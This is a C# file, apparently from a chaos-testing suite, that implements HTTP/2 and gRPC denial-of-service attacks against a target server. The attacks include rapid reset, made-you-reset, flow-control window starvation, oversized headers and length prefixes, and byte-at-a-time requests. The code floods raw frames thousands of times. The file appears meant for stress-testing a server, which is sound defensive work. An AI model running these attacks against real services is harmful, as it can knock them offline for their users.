namespace Trunkline.Chaos.Attacks;

/// <summary>Streams that cost the server more than the client.</summary>
internal static class Streams
{
    private const int Times = 5000;

    public static readonly Attack[] All =
    [
        Each("rapid reset", stream => [.. Wire.Call(stream, "Slow", "x"), .. Wire.Frame(Wire.RstStream, 0, stream, 0, 0, 0, 8)]),
        Each("made-you-reset", stream => [.. Wire.Call(stream, "Slow", "x"), .. Wire.Frame(Wire.WindowUpdate, 0, stream, 0, 0, 0, 0)]),
        Each("malformed requests", stream => Wire.Frame(Wire.Headers, Wire.EndHeaders | Wire.EndStream, stream, 0x83, 0x86)),
        Each("more streams than allowed", stream => Wire.Frame(Wire.Headers, Wire.EndHeaders, stream, Wire.Request("Chat"))),
        Each("header lists too large", stream => Wire.Frame(Wire.Headers, Wire.EndHeaders | Wire.EndStream, stream, [.. Wire.Request("Unary"), .. Many(120)])),
        Each("gRPC prefix of 4 GiB", stream => [.. Wire.Frame(Wire.Headers, Wire.EndHeaders, stream, Wire.Request("Unary")), .. Wire.Frame(Wire.Data, Wire.EndStream, stream, 0, 255, 255, 255, 255)]),
        Each("gRPC with an unknown compression", stream => [.. Wire.Frame(Wire.Headers, Wire.EndHeaders, stream, Wire.Request("Unary")), .. Wire.Frame(Wire.Data, Wire.EndStream, stream, 1, 0, 0, 0, 1, 0)]),
        Each("half-closed leftovers", stream => Wire.Frame(Wire.Headers, Wire.EndHeaders, stream, Wire.Request("Join"))),
        Attack.Http2("window of 0, answers wanted", async (victim, _, stop) =>
        {
            await victim.SendAsync(Wire.Frame(Wire.Settings, 0, 0, [0, 4, 0, 0, 0, 0]), stop);
            await CallManyAsync(victim, "Repeat", "2000 " + new string('r', 200), stop);
            await victim.DrainAsync(stop);
        }),
        Attack.Http2("window of 1 byte at a time", async (victim, _, stop) =>
        {
            await victim.SendAsync(Wire.Frame(Wire.Settings, 0, 0, [0, 4, 0, 0, 0, 1]), stop);
            await CallManyAsync(victim, "Repeat", "2000 " + new string('r', 200), stop);
            await victim.FloodAsync(Wire.Frame(Wire.WindowUpdate, 0, 1, 0, 0, 0, 1), Times, reads: true, stop);
            await victim.DrainAsync(stop);
        }),
        Attack.Http2("answers wanted and not read", async (victim, _, stop) =>
        {
            await victim.SendAsync(Wire.Frame(Wire.WindowUpdate, 0, 0, Wire.Number(int.MaxValue - 65_535)), stop);
            await CallManyAsync(victim, "Repeat", "2000 " + new string('r', 200), stop);
            await Task.Delay(Timeout.Infinite, stop);
        }),
        Attack.Http2("a request a byte at a time", async (victim, random, stop) =>
        {
            foreach (byte octet in Wire.Call(1, "Unary", new string('s', 300)))
            {
                await victim.SendAsync(new[] { octet }, stop);
                await Task.Delay(random.Next(60), stop);
            }

            victim.Reset();
        }),
        Attack.Http2("calls left in the middle", async (victim, random, stop) =>
        {
            await CallManyAsync(victim, "Slow", "x", stop);
            await Task.Delay(random.Next(200), stop);
            victim.Reset();
        }),
        Attack.Http2("ids that go back and forth", async (victim, _, stop) =>
        {
            await victim.SendAsync((byte[])[.. Wire.Call(9, "Unary", "x"), .. Wire.Call(7, "Unary", "x"), .. Wire.Call(2, "Unary", "x")], stop);
            await victim.DrainAsync(stop);
        }),
    ];

    private static Attack Each(string name, Func<int, byte[]> frames) => Attack.Http2(name, async (victim, _, stop) =>
    {
        for (int stream = 1; stream < 2 * Times && victim.GoAwayCode is null; stream += 2)
        {
            await victim.FloodAsync(frames(stream), times: 1, reads: true, stop);
        }

        await victim.DrainAsync(stop);
    });

    private static async Task CallManyAsync(Victim victim, string method, string message, CancellationToken stop)
    {
        for (int stream = 1; stream < 200; stream += 2)
        {
            await victim.SendAsync(Wire.Call(stream, method, message), stop);
        }
    }

    private static byte[] Many(int count)
    {
        byte[] field = Wire.Field("x-large", new string('l', 100));
        return [.. Enumerable.Repeat(field, count).SelectMany(bytes => bytes)];
    }
}
